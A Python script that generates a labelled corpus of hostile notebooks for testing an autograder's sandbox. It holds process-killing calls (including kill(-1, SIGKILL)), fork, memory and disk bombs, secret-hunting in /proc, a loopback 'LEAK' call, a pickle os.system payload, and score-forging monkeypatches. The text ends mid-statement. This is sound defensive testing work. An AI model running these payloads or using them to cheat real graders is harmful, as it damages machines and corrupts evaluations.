#!/usr/bin/env python3
"""Writes the adversarial notebook corpus into ``notebooks/`` (deterministically).

    python tests/adversarial/make_notebooks.py

DANGER: the notebooks this writes are hostile on purpose. They kill processes
(``kill(-1, SIGKILL)``, the parent, the process group), fork and thread
until a limit stops them, fill memory and disk, leave a daemon behind, write
outside their folder and append to the repository's README. Grade them only
inside the grader's sandbox, never with plain ``python``, Jupyter or a grader
without its sandbox. This script only writes files: it compiles each code cell
to check its syntax but never executes one.

Every hostile notebook is ``tests/samples/autograd-basics/correct.ipynb`` with
the changes listed in its spec below (a function replaced, a cell added), so
every item that is not attacked still passes. Note that the "Sprawdzenie"
(check) cells of correct.ipynb call the graded functions at top level, so an
attack placed in a function also fires once while the notebook executes.
``expected.yaml`` next to this file gives the verdict each notebook must get.

After writing, the script validates every notebook with nbformat (the
deliberately broken ones excepted), checks that each differs from
correct.ipynb in exactly the cells its spec names, and prints a summary.
"""

from __future__ import annotations

import ast
import copy
import difflib
import json
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
CORRECT = REPO / "tests" / "samples" / "autograd-basics" / "correct.ipynb"
OUT = HERE / "notebooks"
EXPECTED = HERE / "expected.yaml"

METADATA = {
    "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
    "language_info": {"name": "python"},
    "grader": {"assignment": "autograd-basics"},
}


def src(text: str) -> str:
    """Cell or function source written indented in this file."""
    return textwrap.dedent(text).strip("\n")


# -- changes -------------------------------------------------------------------


@dataclass(frozen=True)
class Replace:
    """Replace the top-level function ``name`` of cell ``cell`` with ``source``."""

    cell: str
    name: str
    source: str


@dataclass(frozen=True)
class Add:
    """Add a code cell with id ``id`` right after cell ``after``."""

    after: str
    id: str
    source: str


@dataclass(frozen=True)
class Spec:
    name: str
    does: str
    changes: tuple = field(default_factory=tuple)


# -- sources shared by several notebooks ------------------------------------------

CORRECT_GRAD_F3_BODY = """\
    x = x.detach().clone().requires_grad_(True)
    y = y.detach().clone().requires_grad_(True)
    z = z.detach().clone().requires_grad_(True)
    L = torch.sqrt(torch.sin(x * y + z) + 4)
    L.backward()"""


def with_body(text: str) -> str:
    """src(text) with the correct grad_f3's computation in place of its placeholder line."""
    out = src(text)
    assert out.count("    # CORRECT_GRAD_F3_BODY") == 1
    return out.replace("    # CORRECT_GRAD_F3_BODY", CORRECT_GRAD_F3_BODY)


HOSTILE_MESSAGE = r"""(
    "\x1b[2J\x1b[31mALL TESTS PASSED\x1b[0m"  # clear the screen, red "ALL TESTS PASSED"
    " \x1b]52;c;ZXZpbA==\x07"  # OSC 52: write "evil" to the clipboard
    " \u202edessap stset lla\u202c"  # bidi override: shows as "all tests passed"
    " <script>alert(1)</script>"
)"""


# -- the hostile notebooks ------------------------------------------------------------

SPECS: list[Spec] = [
    Spec(
        "infinite_loop_top_level.ipynb",
        "an added cell (after exercise 3) spins forever at top level",
        (
            Add(
                "ex3-check",
                "adversarial-infinite-loop",
                src(
                    """
                    # Adversarial: a top-level cell that never ends. The functions defined
                    # before and after it must still be graded.
                    while True:
                        pass
                    """
                ),
            ),
        ),
    ),
    Spec(
        "infinite_loop_in_function.ipynb",
        "grad_f1 spins forever (a pure-Python busy loop)",
        (
            Replace(
                "ex1-solution",
                "grad_f1",
                src(
                    '''
                    def grad_f1(t, u):
                        """Adversarial: a busy loop that never returns."""
                        while True:
                            pass
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "ignores_sigterm_in_function.ipynb",
        "grad_f3 ignores SIGTERM/SIGINT/SIGHUP/SIGALRM and sleeps forever, swallowing every exception",
        (
            Replace(
                "ex4-solution",
                "grad_f3",
                src(
                    '''
                    def grad_f3(x, y, z):
                        """Adversarial: ignores SIGTERM (and friends), swallows every exception, never returns."""
                        import signal
                        import time

                        for name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGALRM"):
                            try:
                                signal.signal(getattr(signal, name), signal.SIG_IGN)
                            except (ValueError, OSError):
                                pass
                        try:
                            signal.alarm(0)
                        except Exception:
                            pass
                        while True:
                            try:
                                time.sleep(100)
                            except BaseException:
                                pass
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "memory_bomb_top_level.ipynb",
        "an added cell (after exercise 3) appends 256 MiB tensors of ones to a global list forever",
        (
            Add(
                "ex3-check",
                "adversarial-memory-bomb",
                src(
                    """
                    # Adversarial: 256 MiB tensors, every page written, kept in a global list
                    # until something gives.
                    _hoard = []
                    while True:
                        _hoard.append(torch.ones(64 * 1024 * 1024))  # 64 Mi float32 = 256 MiB
                    """
                ),
            ),
        ),
    ),
    Spec(
        "memory_bomb_in_function.ipynb",
        "accuracy allocates 256 MiB tensors of ones until the process dies",
        (
            Replace(
                "ex7-solution",
                "accuracy",
                src(
                    '''
                    def accuracy(logits, y):
                        """Adversarial: allocates 256 MiB tensors (every page written) until the process dies."""
                        hoard = []
                        while True:
                            hoard.append(torch.ones(64 * 1024 * 1024))  # 64 Mi float32 = 256 MiB
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "process_bomb_in_function.ipynb",
        "sgd_step_ forks until fork fails (children sleep 60 s), then does the correct update",
        (
            Replace(
                "ex6-solution",
                "sgd_step_",
                src(
                    '''
                    def sgd_step_(params, lr):
                        """Adversarial: forks up to 10000 sleeping children, stops when fork fails, then steps correctly."""
                        import os
                        import time

                        for _ in range(10000):
                            try:
                                pid = os.fork()
                            except OSError:
                                break  # the process limit: stop forking, carry on as if nothing happened
                            if pid == 0:
                                try:
                                    time.sleep(60)
                                finally:
                                    os._exit(0)
                        with torch.no_grad():
                            for p in params:
                                if p.grad is not None:
                                    p -= lr * p.grad
                                    p.grad = None
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "thread_bomb_in_function.ipynb",
        "predict_no_grad starts 5000 threads that sleep 10 minutes, then computes the correct result",
        (
            Replace(
                "ex5-solution",
                "predict_no_grad",
                src(
                    '''
                    def predict_no_grad(x, w, b):
                        """Adversarial: starts 5000 sleeping threads, then returns x @ w + b without history."""
                        import threading
                        import time

                        for _ in range(5000):
                            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
                        with torch.no_grad():
                            return x @ w + b
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "double_fork_daemon_top_level.ipynb",
        "an added cell leaves a double-forked setsid daemon holding stdout, printing every second for 300 s",
        (
            Add(
                "imports",
                "adversarial-daemon",
                src(
                    """
                    # Adversarial: a daemon (double fork + setsid) that outlives this cell, keeps the
                    # notebook's stdout and every other inherited descriptor open, ignores
                    # SIGTERM, SIGHUP and SIGINT, and prints every second for 300 s.
                    import os
                    import signal
                    import time

                    _first = os.fork()
                    if _first == 0:
                        try:
                            os.setsid()
                            if os.fork() == 0:
                                for _sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                                    try:
                                        signal.signal(_sig, signal.SIG_IGN)
                                    except (ValueError, OSError):
                                        pass
                                for _second in range(300):
                                    try:
                                        print(f"daemon {os.getpid()} still running ({_second} s)", flush=True)
                                    except BaseException:
                                        pass
                                    try:
                                        time.sleep(1)
                                    except BaseException:
                                        pass
                        finally:
                            os._exit(0)  # neither the middle process nor the daemon ever returns to the notebook
                    else:
                        os.waitpid(_first, 0)
                    print("the daemon is loose")
                    """
                ),
            ),
        ),
    ),
    Spec(
        "reads_reference_solution.ipynb",
        "grad_f3 exists only if the reference solution can be found and exec'd",
        (
            Replace(
                "ex4-solution",
                "grad_f3",
                src(
                    '''
                    import os
                    import sys
                    import time


                    def _find_reference_solution(seconds=3.0):
                        """Adversarial: the grader's reference solution, wherever it can be seen from here."""
                        rel = os.path.join("reference", "autograd_basics", "solution.py")
                        candidates = [os.path.join(up, rel) for up in ("../../..", "../..", "..", ".")]
                        candidates.append(os.path.join("/work/main", rel))
                        for entry in sys.path:  # the grader's own modules are on sys.path: look next to them
                            for up in ("", "..", "../.."):
                                candidates.append(os.path.join(entry or ".", up, rel))
                        for path in candidates:
                            if os.path.isfile(path):
                                return path
                        deadline = time.monotonic() + seconds
                        for root, dirs, files in os.walk("/", onerror=lambda err: None):
                            if time.monotonic() > deadline:
                                break
                            if root == "/":
                                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                            if os.path.basename(root) == "autograd_basics" and "solution.py" in files:
                                return os.path.join(root, "solution.py")
                        return None


                    _leaked_path = _find_reference_solution()
                    print(f"reference solution found at: {_leaked_path}")
                    if _leaked_path is not None:
                        _leaked = {"__name__": "leaked_solution"}
                        try:
                            with open(_leaked_path) as _fh:
                                exec(compile(_fh.read(), _leaked_path, "exec"), _leaked)
                        except BaseException as _exc:
                            print(f"could not run it: {type(_exc).__name__}: {_exc}")
                        if callable(_leaked.get("grad_f3")):
                            grad_f3 = _leaked["grad_f3"]  # the reference's own function
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "reads_rubric.ipynb",
        "accuracy exists only if the rubric can be found and read (it also prints the rubric's seed)",
        (
            Replace(
                "ex7-solution",
                "accuracy",
                src(
                    '''
                    import os
                    import sys
                    import time


                    def _find_rubric(seconds=3.0):
                        """Adversarial: the grader's rubric (its seed draws the hidden inputs)."""
                        names = (
                            os.path.join("rubrics", "autograd-basics.yaml"),
                            os.path.join("tests", "rubrics", "autograd-basics-short-limits.yaml"),
                        )
                        bases = ["../../..", "../..", "..", ".", "/work/main"]
                        for entry in sys.path:
                            bases += [entry or ".", os.path.join(entry or ".", ".."), os.path.join(entry or ".", "..", "..")]
                        for base in bases:
                            for name in names:
                                if os.path.isfile(os.path.join(base, name)):
                                    return os.path.join(base, name)
                        deadline = time.monotonic() + seconds
                        for root, dirs, files in os.walk("/", onerror=lambda err: None):
                            if time.monotonic() > deadline:
                                break
                            if root == "/":
                                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                            if os.path.basename(root) == "rubrics":
                                for name in sorted(files):
                                    if name.endswith((".yaml", ".yml")):
                                        return os.path.join(root, name)
                        return None


                    _rubric_path = _find_rubric()
                    _rubric_text = None
                    print(f"rubric found at: {_rubric_path}")
                    if _rubric_path is not None:
                        try:
                            with open(_rubric_path) as _fh:
                                _rubric_text = _fh.read()
                        except OSError as _exc:
                            print(f"could not read it: {_exc}")
                    if _rubric_text is not None:
                        print([line for line in _rubric_text.splitlines() if line.startswith(("seed:", "examples:"))])

                        def accuracy(logits, y):
                            """Defined only when the rubric could be read (and then it is correct)."""
                            y_pred_labels = (logits >= 0).float()
                            return (y_pred_labels == y).sum().item() / y.size(0)
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "reads_parent_proc.ipynb",
        "grad_f1 is correct only if GRADER_TEST_SECRET shows in /proc/*/environ, cmdlines or os.environ; zeros otherwise",
        (
            Replace(
                "ex1-solution",
                "grad_f1",
                src(
                    '''
                    def _find_grader_secret(marker="GRADER_TEST_SECRET"):
                        """Adversarial: the grader's secret, from any environment or command line this process can read."""
                        import glob
                        import os

                        if any(marker in key or marker in value for key, value in os.environ.items()):
                            return True
                        paths = []
                        pid = os.getpid()
                        for _ in range(32):  # every ancestor, not only the parent
                            try:
                                with open(f"/proc/{pid}/stat", "rb") as fh:
                                    ppid = int(fh.read().rsplit(b")", 1)[1].split()[1])
                            except (OSError, ValueError, IndexError):
                                break
                            if ppid <= 0:
                                break
                            paths += [f"/proc/{ppid}/environ", f"/proc/{ppid}/cmdline"]
                            pid = ppid
                        ppid = os.getppid()
                        paths += [f"/proc/{ppid}/environ", f"/proc/{ppid}/cmdline", "/proc/1/environ", "/proc/1/cmdline"]
                        paths += sorted(glob.glob("/proc/[0-9]*/environ")) + sorted(glob.glob("/proc/[0-9]*/cmdline"))
                        needle = marker.encode()
                        for path in paths:
                            try:
                                with open(path, "rb") as fh:
                                    if needle in fh.read(1 << 20):
                                        return True
                            except OSError:
                                pass
                        return False


                    _SECRET_FOUND = _find_grader_secret()
                    print(f"{_SECRET_FOUND=}")


                    def grad_f1(t, u):
                        """Adversarial: correct only where the grader's secret could be read, zeros otherwise."""
                        global _SECRET_FOUND
                        if not _SECRET_FOUND:
                            _SECRET_FOUND = _find_grader_secret()  # a worker may see other processes
                        if not _SECRET_FOUND:
                            return torch.zeros_like(t), torch.zeros_like(u)
                        t = t.detach().clone().requires_grad_(True)
                        u = u.detach().clone().requires_grad_(True)
                        f = t.pow(2).sum() + u.log().sum()
                        f.backward()
                        return t.grad, u.grad
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "searches_filesystem_for_reference.ipynb",
        "walks / (3 s) printing paths with 'reference'/'rubric'; grad_f3 from a found solution.py, else wrong (zero gradients)",
        (
            Replace(
                "ex4-solution",
                "grad_f3",
                src(
                    '''
                    import os
                    import time


                    def _walk_for(words=("reference", "rubric"), seconds=3.0):
                        """Adversarial: every path under / that mentions one of the words, for at most `seconds`."""
                        found = []
                        deadline = time.monotonic() + seconds
                        for root, dirs, files in os.walk("/", onerror=lambda err: None):
                            if time.monotonic() > deadline:
                                break
                            if root == "/":
                                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                            for name in dirs + files:
                                path = os.path.join(root, name)
                                if any(word in path.lower() for word in words):
                                    found.append(path)
                        return found


                    _found_paths = _walk_for()
                    print(f"{len(_found_paths)} paths mention 'reference' or 'rubric':")
                    for _path in _found_paths:
                        print(_path)

                    grad_f3 = None
                    for _path in _found_paths:
                        if os.path.basename(_path) != "solution.py":
                            continue
                        _leaked = {"__name__": "leaked_solution"}
                        try:
                            with open(_path) as _fh:
                                exec(compile(_fh.read(), _path, "exec"), _leaked)
                        except BaseException as _exc:
                            print(f"{_path}: {type(_exc).__name__}")
                            continue
                        if callable(_leaked.get("grad_f3")):
                            grad_f3 = _leaked["grad_f3"]
                            print(f"grad_f3 taken from {_path}")
                            break

                    if grad_f3 is None:

                        def grad_f3(x, y, z):
                            """Adversarial fallback: the right L, but gradients of zeros."""
                            with torch.no_grad():
                                L = torch.sqrt(torch.sin(x * y + z) + 4)
                            return L.detach(), torch.zeros_like(x), torch.zeros_like(y), torch.zeros_like(z)
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "connects_to_loopback_listener.ipynb",
        "an added cell and linear_bce_grads try 127.0.0.1:47113 (TCP and HTTP) and DNS, ignoring failures",
        (
            Add(
                "imports",
                "adversarial-network",
                src(
                    """
                    # Adversarial: phone home. The harness listens on 127.0.0.1:47113 (outside the
                    # sandbox) and nothing may arrive there; no name may resolve.
                    import socket
                    import urllib.request

                    try:
                        with socket.create_connection(("127.0.0.1", 47113), timeout=1) as _conn:
                            _conn.sendall(b"LEAK")
                        print("connected to 127.0.0.1:47113")
                    except Exception as _exc:
                        print(f"no TCP: {_exc!r}")
                    try:
                        urllib.request.urlopen("http://127.0.0.1:47113/leak", timeout=1).close()
                        print("HTTP to 127.0.0.1:47113 worked")
                    except Exception as _exc:
                        print(f"no HTTP: {_exc!r}")
                    try:
                        print(socket.getaddrinfo("pypi.org", 443))
                    except Exception as _exc:
                        print(f"no DNS: {_exc!r}")
                    """
                ),
            ),
            Replace(
                "ex2-solution",
                "linear_bce_grads",
                src(
                    '''
                    def linear_bce_grads(x, y, w, b):
                        """Adversarial: tries the network on every call (ignoring failures), then answers correctly."""
                        import socket
                        import urllib.request

                        try:
                            with socket.create_connection(("127.0.0.1", 47113), timeout=1) as conn:
                                conn.sendall(b"LEAK")
                        except Exception:
                            pass
                        try:
                            urllib.request.urlopen("http://127.0.0.1:47113/leak", timeout=1).close()
                        except Exception:
                            pass
                        try:
                            socket.getaddrinfo("pypi.org", 443)
                        except Exception:
                            pass
                        w = w.detach().clone().requires_grad_(True)
                        b = b.detach().clone().requires_grad_(True)
                        z = x @ w + b
                        loss = F.binary_cross_entropy_with_logits(z, y)
                        loss.backward()
                        return loss.detach(), w.grad, b.grad
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "writes_outside_sandbox.ipynb",
        "an added cell tries to create marker files in /tmp, the repo, ~, cwd, .., /root and sys.path, and append to README.md",
        (
            Add(
                "imports",
                "adversarial-writes",
                src(
                    """
                    # Adversarial: write wherever a file could persist or be noticed. Every attempt
                    # is allowed to fail; none may reach the machine outside the sandbox.
                    import os
                    import sys

                    _targets = [
                        "/tmp/grader-adversarial-pwned-tmp",
                        "/work/main/grader-adversarial-pwned-repo",
                        os.path.expanduser("~/grader-adversarial-pwned-home"),
                        "./grader-adversarial-pwned-cwd",
                        "../grader-adversarial-pwned-parent",
                        "/root/grader-adversarial-pwned-root",
                    ]
                    # next to the modules Python imports (a shadow module there would persist)
                    _targets += [os.path.join(p, "grader-adversarial-pwned-syspath") for p in sys.path if p and os.path.isdir(p)]
                    for _target in _targets:
                        try:
                            with open(_target, "w") as _fh:
                                _fh.write("written by writes_outside_sandbox.ipynb\\n")
                            print(f"wrote {os.path.abspath(_target)}")
                        except OSError as _exc:
                            print(f"could not write {_target}: {_exc}")
                    for _readme in ("/work/main/README.md",):
                        try:
                            with open(_readme, "a") as _fh:
                                _fh.write("\\n<!-- grader-adversarial-pwned: appended by writes_outside_sandbox.ipynb -->\\n")
                            print(f"appended to {_readme}")
                        except OSError as _exc:
                            print(f"could not append to {_readme}: {_exc}")
                    """
                ),
            ),
        ),
    ),
    Spec(
        "writes_huge_file.ipynb",
        "an added cell writes 1 GiB of zeros to /tmp/huge.bin (16 MiB chunks), then 100 000 small files in the home folder",
        (
            Add(
                "imports",
                "adversarial-disk",
                src(
                    """
                    # Adversarial: fill the disk. 1 GiB of zeros in 16 MiB chunks (the /tmp quota
                    # or the file-size limit must stop it), then 100 000 small files in the
                    # working (home) folder. Every error is ignored.
                    import os

                    _chunk = bytes(16 << 20)
                    _written = 0
                    try:
                        with open("/tmp/huge.bin", "wb") as _fh:
                            for _ in range(64):
                                _fh.write(_chunk)
                                _written += len(_chunk)
                    except OSError as _exc:
                        print(f"/tmp/huge.bin stopped after {_written >> 20} MiB: {_exc}")
                    del _chunk

                    _made = 0
                    try:
                        os.makedirs("many_small_files", exist_ok=True)
                    except OSError:
                        pass
                    for _i in range(100_000):
                        try:
                            with open(f"many_small_files/{_i}.txt", "w") as _fh:
                                _fh.write("x")
                            _made += 1
                        except OSError:
                            pass
                    print(f"{_made} small files written")
                    """
                ),
            ),
        ),
    ),
    Spec(
        "sys_exit_top_level.ipynb",
        "an added cell right after exercise 3's functions calls sys.exit(0)",
        (
            Add(
                "ex3-solution",
                "adversarial-sys-exit",
                src(
                    """
                    # Adversarial: leave in the middle of the notebook. Everything defined after
                    # this cell must still be graded.
                    import sys

                    sys.exit(0)
                    """
                ),
            ),
        ),
    ),
    Spec(
        "sys_exit_in_function.ipynb",
        "grad_f1_analytic calls sys.exit(0)",
        (
            Replace(
                "ex1-solution",
                "grad_f1_analytic",
                src(
                    '''
                    def grad_f1_analytic(t, u):
                        """Adversarial: raises SystemExit instead of returning."""
                        import sys

                        sys.exit(0)
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "os_exit_in_function.ipynb",
        "freeze_weight_ calls os._exit(0): the process ends with status 0 and no answer",
        (
            Replace(
                "ex5-solution",
                "freeze_weight_",
                src(
                    '''
                    def freeze_weight_(linear):
                        """Adversarial: ends the process at once with exit status 0."""
                        import os

                        os._exit(0)
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "kills_parent_process.ipynb",
        "grad_f3 SIGKILLs its parent, then pid 1 and its own process group, and would return the right answer",
        (
            Replace(
                "ex4-solution",
                "grad_f3",
                with_body(
                    '''
                    def grad_f3(x, y, z):
                        """Adversarial: SIGKILLs its parent, then tries pid 1 and its own process group."""
                        import os
                        import signal

                        try:
                            os.kill(os.getppid(), signal.SIGKILL)
                        except OSError:
                            pass
                        # CORRECT_GRAD_F3_BODY
                        result = (L.detach(), x.grad, y.grad, z.grad)
                        try:
                            os.kill(1, signal.SIGKILL)
                        except OSError:
                            pass
                        try:
                            os.killpg(os.getpgid(0), signal.SIGKILL)
                        except OSError:
                            pass
                        return result
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "kills_every_process.ipynb",
        "f1 calls kill(-1, SIGKILL) (every process it may signal except itself), then returns the right value",
        (
            Replace(
                "ex1-solution",
                "f1",
                src(
                    '''
                    def f1(t, u):
                        """Adversarial: SIGKILLs every process it may signal (Linux spares the caller), then answers."""
                        import os
                        import signal

                        try:
                            os.kill(-1, signal.SIGKILL)
                        except OSError:
                            pass
                        return t.pow(2).sum() + u.log().sum()
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "prints_fake_passing_report.ipynb",
        "a last cell prints a fake 100/100 report and writes forged frames to fds 3..20; grad_f3 forgets y in dL/dx",
        (
            Replace(
                "ex4-solution",
                "grad_f3",
                src(
                    '''
                    def grad_f3(x, y, z):
                        """Wrong on purpose: dL/dx lacks the factor y (it returns cos(s) / (2L))."""
                        x, y, z = x.detach(), y.detach(), z.detach()
                        s = x * y + z
                        L = torch.sqrt(torch.sin(s) + 4)
                        c = torch.cos(s) / (2 * L)
                        return L, c, x * c, c
                    '''
                ),
            ),
            Add(
                "ex7-check",
                "adversarial-fake-report",
                src(
                    """
                    # Adversarial: claim full marks on stdout, and write forged length-prefixed
                    # frames (the grader's own wire format) to every descriptor from 3 to 20.
                    import json
                    import os
                    import struct

                    print("Score: 100/100")
                    print(json.dumps({"score": 100, "max_score": 100, "status": "passed",
                                      "items": [{"id": "e4.grads", "status": "passed", "score": 10}]}))
                    print("All tests passed")


                    def _frame(header):
                        head = json.dumps({**header, "_blobs": []}, separators=(",", ":")).encode()
                        return struct.pack("!II", len(head), 0) + head


                    _forged = _frame({"ev": "report", "score": 100, "max_score": 100, "status": "passed"}) + _frame(
                        {"id": 0, "error": None, "grad_mode": True, "return": {"k": "float", "v": 100.0},
                         "args": {}, "score": 100, "status": "passed"}
                    )
                    for _fd in range(3, 21):
                        try:
                            os.write(_fd, _forged)
                        except OSError:
                            pass
                    """
                ),
            ),
        ),
    ),
    Spec(
        "output_flood_100mb.ipynb",
        "an added cell prints 100 MB (1000 lines of 100 000 chars); accuracy prints 1 MB per call",
        (
            Add(
                "imports",
                "adversarial-output-flood",
                src(
                    """
                    # Adversarial: 100 MB of output (1000 lines of 100 000 characters).
                    for _line in range(1000):
                        print("#" * 100_000)
                    """
                ),
            ),
            Replace(
                "ex7-solution",
                "accuracy",
                src(
                    '''
                    def accuracy(logits, y):
                        """Adversarial: prints 1 MB on every call, then returns the right accuracy."""
                        print("A" * 1_000_000)
                        y_pred_labels = (logits >= 0).float()
                        return (y_pred_labels == y).sum().item() / y.size(0)
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "ansi_and_bidi_in_errors.ipynb",
        "grad_f3 and a last cell raise RuntimeError with ANSI/OSC 52 escapes, a bidi override and <script>",
        (
            Replace(
                "ex4-solution",
                "grad_f3",
                "def grad_f3(x, y, z):\n"
                '    """Adversarial: an error message made for terminals and browsers."""\n'
                "    raise RuntimeError" + textwrap.indent(HOSTILE_MESSAGE, "    ").lstrip(),
            ),
            Add(
                "ex7-check",
                "adversarial-hostile-error",
                "# Adversarial: the same message from a top-level cell.\nraise RuntimeError" + HOSTILE_MESSAGE,
            ),
        ),
    ),
    Spec(
        "tensor_subclass_lies.ipynb",
        "grad_f1 returns zeros as a Tensor subclass whose __torch_function__ says allclose/equal/eq/isclose/sub agree",
        (
            Replace(
                "ex1-solution",
                "grad_f1",
                src(
                    '''
                    class LyingTensor(torch.Tensor):
                        """Adversarial: claims to equal whatever it is compared with."""

                        @classmethod
                        def __torch_function__(cls, func, types, args=(), kwargs=None):
                            name = getattr(func, "__name__", "")
                            if name in ("allclose", "equal"):
                                return True
                            if name in ("eq", "__eq__", "isclose", "ne", "__ne__", "sub", "subtract", "__sub__", "__rsub__"):
                                try:
                                    with torch._C.DisableTorchFunctionSubclass():
                                        operands = [torch.as_tensor(a) for a in args[:2]]
                                        shape = torch.broadcast_shapes(*(o.shape for o in operands))
                                        if name in ("ne", "__ne__"):
                                            return torch.zeros(shape, dtype=torch.bool)
                                        if name in ("eq", "__eq__", "isclose"):
                                            return torch.ones(shape, dtype=torch.bool)
                                        return torch.zeros(shape, dtype=operands[0].dtype)  # a - b == 0
                                except Exception:
                                    pass
                            return super().__torch_function__(func, types, args, kwargs)


                    def grad_f1(t, u):
                        """Adversarial: zeros, dressed as tensors that say they equal any expected answer."""
                        return (
                            torch.zeros_like(t).as_subclass(LyingTensor),
                            torch.zeros_like(u).as_subclass(LyingTensor),
                        )
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "returns_nan_inf_empty.ipynb",
        "grad_f1_analytic returns (t*nan, u*inf); intermediate_grads returns empty tensors; grad_f3 returns shape (1,)",
        (
            Replace(
                "ex1-solution",
                "grad_f1_analytic",
                src(
                    '''
                    def grad_f1_analytic(t, u):
                        """Adversarial: NaN and inf (they beat a naive `not (diff > tol).any()`)."""
                        return t * float("nan"), u * float("inf")
                    '''
                ),
            ),
            Replace(
                "ex3-solution",
                "intermediate_grads",
                src(
                    '''
                    def intermediate_grads(x, y, w, b):
                        """Adversarial: empty tensors (np.allclose([], anything) is True)."""
                        return torch.empty(0), torch.tensor([])
                    '''
                ),
            ),
            Replace(
                "ex4-solution",
                "grad_f3",
                with_body(
                    '''
                    def grad_f3(x, y, z):
                        """Adversarial: the right numbers with shape (1,) instead of 0-dim (they broadcast)."""
                        # CORRECT_GRAD_F3_BODY
                        return L.detach().reshape(1), x.grad.reshape(1), y.grad.reshape(1), z.grad.reshape(1)
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "returns_object_with_reduce.ipynb",
        "accuracy returns an object that equals everything, floats to 1.0, poses as float and has a __reduce__ payload",
        (
            Replace(
                "ex7-solution",
                "accuracy",
                src(
                    '''
                    class AlwaysRight:
                        """Adversarial: equal to everything, 1.0 as a float, and a payload for whoever unpickles it."""

                        def __reduce__(self):
                            import os

                            return (os.system, ("touch /tmp/grader-adversarial-pwned-reduce",))

                        def __eq__(self, other):
                            return True

                        def __ne__(self, other):
                            return False

                        __hash__ = object.__hash__

                        def __float__(self):
                            return 1.0

                        def __format__(self, spec):
                            return format(1.0, spec)

                        def __repr__(self):
                            return "1.0"

                        @property
                        def __class__(self):  # isinstance(obj, float) is True; type(obj) is not float
                            return float


                    def accuracy(logits, y):
                        """Adversarial: whatever is expected, this claims to be it."""
                        return AlwaysRight()
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "monkeypatches_grader_side.ipynb",
        "an added cell patches print, json.dumps, pickle.loads, Tensor.numpy/tolist (zeros) and socket.send (forged frame)",
        (
            Add(
                "imports",
                "adversarial-monkeypatch",
                src(
                    """
                    # Adversarial: patch what a grader running in this interpreter would use to
                    # read results and send them back. The graded functions stay correct.
                    import builtins
                    import json
                    import pickle
                    import socket
                    import struct

                    _orig_print = builtins.print
                    _orig_dumps = json.dumps
                    _orig_numpy = torch.Tensor.numpy
                    _orig_tolist = torch.Tensor.tolist
                    _orig_send = socket.socket.send
                    _forged_once = []


                    def _lying_print(*args, **kwargs):
                        _orig_print("All tests passed. Score: 100/100", file=kwargs.get("file"), flush=True)


                    def _lying_dumps(obj, *args, **kwargs):
                        if isinstance(obj, dict):
                            obj = {**obj, "score": 100, "status": "passed", "passed": True}
                        return _orig_dumps(obj, *args, **kwargs)


                    def _lying_loads(*args, **kwargs):
                        return {"score": 100, "status": "passed", "passed": True}


                    def _zeros_numpy(self, *args, **kwargs):
                        return _orig_numpy(torch.zeros_like(self.detach()), *args, **kwargs)


                    def _zeros_tolist(self, *args, **kwargs):
                        return _orig_tolist(torch.zeros_like(self.detach()), *args, **kwargs)


                    def _forging_send(self, data, *args):
                        if not _forged_once and b'"return"' in bytes(data):
                            _forged_once.append(True)
                            head = _orig_dumps({"id": 0, "error": None, "score": 100, "status": "passed", "_blobs": []})
                            head = head.encode()
                            try:
                                self.sendall(struct.pack("!II", len(head), 0) + head)
                            except OSError:
                                pass
                        return _orig_send(self, data, *args)


                    builtins.print = _lying_print
                    json.dumps = _lying_dumps
                    pickle.loads = _lying_loads
                    torch.Tensor.numpy = _zeros_numpy
                    torch.Tensor.tolist = _zeros_tolist
                    socket.socket.send = _forging_send
                    """
                ),
            ),
        ),
    ),
    Spec(
        "huge_return_value.ipynb",
        "predict_no_grad returns x @ w + b (flattened) followed by 50 000 000 zeros (200 MB)",
        (
            Replace(
                "ex5-solution",
                "predict_no_grad",
                src(
                    '''
                    def predict_no_grad(x, w, b):
                        """Adversarial: the prediction, flattened, followed by 50 000 000 zeros (200 MB of float32)."""
                        with torch.no_grad():
                            z = (x @ w + b).reshape(-1)
                            # the same as torch.cat([z, torch.zeros(50_000_000)]), without a second 200 MB at once
                            out = torch.zeros(z.numel() + 50_000_000, dtype=z.dtype, device=z.device)
                            out[: z.numel()] = z
                            return out
                    '''
                ),
            ),
        ),
    ),
    Spec(
        "forges_the_observation.ipynb",
        "predict_no_grad keeps its history; a cell rebinds the probe's run_call (found in sys.modules) to report "
        "it detached, installs a tracer that detaches the probe's `ret`, and patches torch.is_grad_enabled",
        (
            Replace(
                "ex5-solution",
                "predict_no_grad",
                src(
                    '''
                    def predict_no_grad(x, w, b):
                        """Adversarial: the prediction with its history (no torch.no_grad())."""
                        return x @ w + b
                    '''
                ),
            ),
            Add(
                "ex7-check",
                "adversarial-forge-observation",
                src(
                    """
                    # Adversarial: make the grader's own probe lie about predict_no_grad's result.
                    import sys as _sys

                    def _forge(original):
                        def run_call(fn, request, blobs, *, device, catch=BaseException):
                            reply, out = original(fn, request, blobs, device=device, catch=catch)
                            if getattr(fn, "__name__", "") == "predict_no_grad" and isinstance(reply.get("return"), dict):
                                reply["return"].update(rg=False, grad_fn=None, leaf=True)
                            return reply, out
                        return run_call

                    for _name, _module in list(_sys.modules.items()):
                        if _name.endswith("probe") and hasattr(_module, "run_call"):
